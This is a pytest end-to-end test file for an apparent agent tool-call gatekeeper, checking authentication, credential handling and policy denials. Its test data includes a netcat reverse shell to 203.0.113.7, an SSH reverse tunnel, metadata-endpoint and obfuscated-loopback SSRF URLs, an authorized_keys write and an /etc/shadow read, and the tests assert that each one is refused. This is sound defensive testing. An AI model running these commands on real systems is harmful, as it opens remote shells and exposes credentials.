"""/v1/invoke end to end: real Gatekeeper, real demo upstream, real sockets on loopback."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from gatekeeper.app import Gatekeeper
from gatekeeper.config import Upstream

from ..helpers import (  # noqa: F401 (shared_gk, shared_gk_per_test, http_in_module_loop: fixtures)
    decisions,
    http_in_module_loop,
    invoke,
    make_config,
    mint,
    run_in_module_loop,
    running,
    shared_gk,
    shared_gk_per_test,
)

REVERSE_SHELL = "git status && nc -e /bin/sh 203.0.113.7 4444"


async def test_allowed_call_is_forwarded_without_the_agents_token(
    gk: Gatekeeper, http: aiohttp.ClientSession, log_output: list[dict[str, Any]]
) -> None:
    token = mint(gk)
    status, body, _ = await invoke(http, gk, "file.read", {"path": "README.md"}, token)
    assert status == 200, body
    assert body["outcome"] == "allowed"
    assert body["result"]["path"] == "/workspace/README.md"
    assert body["result"]["content"]
    assert gk.demo is not None
    [received] = gk.demo.http_received
    assert received.tool == "file.read"
    assert received.arguments == {"path": "README.md"}
    assert "authorization" not in received.headers
    assert received.headers["x-gatekeeper-decision-id"] == body["decision_id"]
    [record] = decisions(log_output)
    assert record["outcome"] == "allowed"
    assert record["decision_id"] == body["decision_id"]
    assert record["principal"] == "agent-1"
    assert "fs.read:/workspace/README.md" in record["capabilities"]
    assert token not in json.dumps(log_output, default=str)


async def test_tool_level_error_is_still_an_allowed_outcome(
    gk: Gatekeeper, http: aiohttp.ClientSession
) -> None:
    status, body, _ = await invoke(http, gk, "file.read", {"path": "no/such/file.txt"}, mint(gk))
    assert status == 200
    assert body["outcome"] == "allowed"
    assert body["result"]["error"]["code"] == "not_found"


async def test_reverse_shell_is_denied_and_never_forwarded(
    gk: Gatekeeper, http: aiohttp.ClientSession, log_output: list[dict[str, Any]]
) -> None:
    status, body, _ = await invoke(http, gk, "shell.exec", {"cmd": REVERSE_SHELL}, mint(gk))
    assert status == 403, body
    assert body["outcome"] == "denied"
    assert body["code"] == "policy_denied"
    assert body["capability"] == "net.reverse_shell"
    assert body["rule"].startswith("policy.csv:")
    assert "reverse shell" in body["reason"]
    assert gk.demo is not None and gk.demo.http_received == []
    [record] = decisions(log_output)
    assert record["outcome"] == "denied"
    assert "net.connect:203.0.113.7:4444" in record["capabilities"]


@pytest.mark.parametrize(
    ("tool", "arguments", "code"),
    [
        ("shell.exec", {"cmd": "git status && ssh -N -R 2222:localhost:22 u@203.0.113.7"}, "policy_denied"),
        ("shell.exec", {"cmd": "nc 203.0.113.7 4444"}, "not_allowed"),
        ("http.fetch", {"url": "http://0x7f000001:8080/"}, "policy_denied"),
        ("http.fetch", {"url": "http://169.254.169.254/latest/meta-data/"}, "policy_denied"),
        (
            "file.write",
            {"path": "/root/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA"},
            "policy_denied",
        ),
        ("file.read", {"path": "../etc/hostname"}, "not_allowed"),
        ("file.read", {"path": "../etc/shadow"}, "policy_denied"),
    ],
)
async def test_default_pack_refuses(
    gk: Gatekeeper, http: aiohttp.ClientSession, tool: str, arguments: dict[str, Any], code: str
) -> None:
    status, body, _ = await invoke(http, gk, tool, arguments, mint(gk))
    assert (status, body["code"]) == (403, code), body
    assert gk.demo is not None and gk.demo.http_received == []


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("shell.exec", {"cmd": "git status"}),
        ("shell.exec", {"cmd": "ls -la src && python -m pytest -q | tail -n 5"}),
        ("http.fetch", {"url": "https://pypi.org/simple/requests/"}),
        ("file.write", {"path": "src/app/new.py", "content": "print('hi')\n"}),
        ("compute.provision", {"gpu_type": "T4", "count": 1, "hours": 2}),
    ],
)
async def test_default_pack_allows_ordinary_work(
    gk: Gatekeeper, http: aiohttp.ClientSession, tool: str, arguments: dict[str, Any]
) -> None:
    status, body, _ = await invoke(http, gk, tool, arguments, mint(gk))
    assert status == 200, body
    assert body["outcome"] == "allowed"


async def test_unauthenticated_call_is_refused(gk: Gatekeeper, http: aiohttp.ClientSession) -> None:
    status, body, headers = await invoke(http, gk, "file.read", {"path": "README.md"}, None)
    assert status == 401
    assert body["code"] == "missing_token"
    assert headers["WWW-Authenticate"].startswith("Bearer ")
    assert gk.demo is not None and gk.demo.http_received == []


async def test_operator_token_is_not_an_agent_token(gk: Gatekeeper, http: aiohttp.ClientSession) -> None:
    status, body, _ = await invoke(http, gk, "file.read", {"path": "README.md"}, mint(gk, operator=True))
    assert (status, body["code"]) == (401, "invalid_audience")


async def test_unknown_tool_is_404(gk: Gatekeeper, http: aiohttp.ClientSession) -> None:
    status, body, _ = await invoke(http, gk, "shell.sudo", {"cmd": "id"}, mint(gk))
    assert (status, body["code"]) == (404, "unknown_tool")


@pytest.mark.parametrize(
    ("arguments", "field"),
    [
        ({"path": "README.md", "mode": "rb"}, "(arguments)"),
        ({}, "(arguments)"),
        ({"path": 7}, "path"),
        ({"path": ""}, "path"),
    ],
)
async def test_schema_violations_are_400(
    gk: Gatekeeper, http: aiohttp.ClientSession, arguments: dict[str, Any], field: str
) -> None:
    status, body, _ = await invoke(http, gk, "file.read", arguments, mint(gk))
    assert (status, body["code"]) == (400, "invalid_arguments"), body
    assert body["field"] == field
    assert gk.demo is not None and gk.demo.http_received == []


async def test_upstream_credentials_are_injected(
    tmp_path: Path, http: aiohttp.ClientSession, log_output: list[dict[str, Any]]
) -> None:
    config = make_config(
        tmp_path, upstreams={"demo": Upstream("demo", headers={"X-Api-Key": "upstream-secret"})}
    )
    async with running(config) as gk:
        status, _, _ = await invoke(http, gk, "file.read", {"path": "README.md"}, mint(gk))
        assert status == 200
        assert gk.demo is not None
        [received] = gk.demo.http_received
        assert received.headers["x-api-key"] == "upstream-secret"
        assert "authorization" not in received.headers
    assert "upstream-secret" not in json.dumps(log_output, default=str)


async def test_upstream_down_is_502_and_logged(
    tmp_path: Path, http: aiohttp.ClientSession, log_output: list[dict[str, Any]]
) -> None:
    async with running(make_config(tmp_path)) as gk:  # its own: the test stops its demo upstream
        assert gk.demo is not None
        await gk.demo.stop()
        status, body, _ = await invoke(http, gk, "file.read", {"path": "README.md"}, mint(gk))
        assert (status, body["code"]) == (502, "upstream_unreachable")
    [record] = decisions(log_output)
    assert record["code"] == "upstream_unreachable"


# One Gatekeeper for the module (tests/helpers.py: shared_gk); tests that change it start their own.
run_in_module_loop(globals())
